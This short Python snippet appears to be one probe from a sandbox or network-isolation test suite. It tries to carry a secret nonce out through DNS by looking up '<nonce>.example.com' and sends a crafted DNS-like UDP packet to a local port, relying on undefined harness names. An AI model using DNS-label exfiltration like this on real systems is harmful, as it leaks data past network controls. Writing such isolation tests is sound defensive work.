# kind: network
# tries: A name looked up, which carries data out in its labels

import socket

try:
    won(socket.getaddrinfo(VICTIM["nonce"] + ".example.com", 80))
except OSError as error:
    print(error)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0", ("127.0.0.1", VICTIM["udp4"]))
